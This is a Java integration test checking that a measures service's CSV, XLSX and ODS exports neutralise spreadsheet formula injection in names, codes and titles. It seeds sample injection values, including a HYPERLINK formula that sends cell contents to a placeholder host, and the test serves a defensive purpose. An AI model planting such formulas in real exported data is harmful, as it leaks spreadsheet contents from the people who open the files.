package org.probity.measures;

import java.net.http.HttpResponse;
import java.time.LocalDate;
import java.util.List;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

import org.probity.IntegrationTest;
import org.probity.shared.web.PageSession;
import org.probity.shared.web.Spreadsheets;
import org.probity.testing.CaseData;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Every export of the service-level pages (CSV, XLSX, ODS) writes names, codes and
 * reasons that start like a formula as text: neutralised with a leading {@code '} in CSV,
 * string cells in the spreadsheets.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class MeasureExportTests {

	static final String LINK = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	CaseData.Estate data;

	String eventId;

	@BeforeAll
	void caseData(@Autowired MeasureRecomputation recomputation) {
		this.data = new CaseData(this.jdbc).anEstate("MXT", 'W');
		this.jdbc.sql("update staff set forename = :name where staff_code = :code")
			.param("name", LINK)
			.param("code", this.data.staff(1))
			.update();
		this.jdbc.sql("update unit set unit_name = '@SUM(1+1)' where unit_code = :code")
			.param("code", this.data.team(2))
			.update();
		LocalDate allocated = LocalDate.of(2023, 3, 28);
		CaseData.Event event = this.data.aCommunityOrder().sentencedOn(allocated).insert();
		this.eventId = "+MXT-" + event.id();
		this.jdbc.sql("update event set event_id = :id where event_id = :old")
			.param("id", this.eventId)
			.param("old", event.id())
			.update();
		this.data.aContact(new CaseData.Event(this.eventId, event.crn(), event.staff()))
			.on(LocalDate.of(2023, 4, 3))
			.insert();
		this.data.aCommunityOrder()
			.sentencedOn(allocated)
			.inTeam(this.data.team(2))
			.heldBy(this.data.staff(2))
			.insert();
		// ten cases with no first contact: a deeper audit flag for a team whose code
		// starts with '-'
		CaseData caseData = new CaseData(this.jdbc);
		caseData.aTeam("-MXT9").named("Unit -MXT9").under(this.data.ldu(2)).insert();
		caseData.aStaffMember("MXTS009")
			.named("Pat", "Officer MXTS009")
			.inTeam("-MXT9")
			.startedOn(LocalDate.of(2015, 1, 1))
			.insert();
		for (int i = 0; i < 10; i++) {
			this.data.aCommunityOrder()
				.sentencedOn(LocalDate.of(2023, 5, 2))
				.inTeam("-MXT9")
				.heldBy("MXTS009")
				.insert();
		}
		recomputation.recomputeAll();
	}

	private PageSession admin() {
		return new PageSession(this.port).signedIn("admin", "test-admin-password");
	}

	@Test
	void practitionerNamesInTheBreakdownAreNeutralisedInCsvAndStringsInSpreadsheets() {
		String path = "/measures/SL001R?period=2023-03&unit=" + this.data.team(1) + "&format=";
		HttpResponse<String> csv = admin().get(path + "csv");

		assertThat(csv.statusCode()).isEqualTo(200);
		assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://x/?\"\"&A1").doesNotContain(",\"=HYPERLINK");
		assertThat(spreadsheetCells(path, "xlsx"))
			.contains(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, LINK + " Officer " + this.data.staff(1)));
		assertThat(spreadsheetCells(path, "ods"))
			.contains(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, LINK + " Officer " + this.data.staff(1)));
	}

	@Test
	void unitNamesInTheBreakdownAreNeutralised() {
		HttpResponse<String> csv = admin()
			.get("/measures/SL001R?period=2023-03&unit=" + this.data.ldu(1) + "&format=csv");

		assertThat(csv.body()).contains("," + "'@SUM(1+1)" + ",").doesNotContain(",@SUM");
	}

	@Test
	void eventIdsInTheCaseListAreNeutralised() {
		String path = "/measures/SL001R/cases?period=2023-03&unit=" + this.data.team(1) + "&format=";
		HttpResponse<String> csv = admin().get(path + "csv");

		assertThat(csv.body()).contains(",'" + this.eventId + ",").doesNotContain("," + this.eventId + ",");
		assertThat(spreadsheetCells(path, "xlsx"))
			.contains(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, this.eventId));
		assertThat(spreadsheetCells(path, "ods"))
			.contains(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, this.eventId));
	}

	@Test
	void unitCodesOfFlagsAreNeutralisedButTheirPerformanceStaysANumber() {
		HttpResponse<String> csv = admin().get("/measures/flags?period=2023-05&format=csv");

		assertThat(csv.body()).contains(
				"2023-05,Deeper audit,SL001R,Initial contact: community orders and SSOs,'-MXT9,Unit -MXT9,,,0\r\n");
		assertThat(spreadsheetCells("/measures/flags?period=2023-05&format=", "xlsx")).contains(
				new Spreadsheets.Cell(Spreadsheets.Kind.STRING, "-MXT9"),
				new Spreadsheets.Cell(Spreadsheets.Kind.NUMBER, "0.0"));
	}

	@Test
	void measureTitlesOnTheDashboardAreNeutralised() {
		String title = this.jdbc.sql("select title from measure where code = 'SL016'").query(String.class).single();
		try {
			this.jdbc.sql("update measure set title = '=1+2 Accredited programmes' where code = 'SL016'").update();
			HttpResponse<String> csv = admin()
				.get("/measures?period=2023-03&unit=" + this.data.team(1) + "&format=csv");
			assertThat(csv.body()).contains("SL016,'=1+2 Accredited programmes,");
			assertThat(spreadsheetCells("/measures?period=2023-03&unit=" + this.data.team(1) + "&format=", "ods"))
				.contains(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, "=1+2 Accredited programmes"));
		}
		finally {
			this.jdbc.sql("update measure set title = :title where code = 'SL016'").param("title", title).update();
		}
	}

	private List<Spreadsheets.Cell> spreadsheetCells(String path, String format) {
		HttpResponse<byte[]> file = new PageSession(this.port).signedIn("admin", "test-admin-password")
			.getBytes(path + format);
		assertThat(file.statusCode()).isEqualTo(200);
		var sheets = "xlsx".equals(format) ? Spreadsheets.xlsx(file.body()) : Spreadsheets.ods(file.body());
		return sheets.values().stream().flatMap(List::stream).flatMap(List::stream).toList();
	}

}
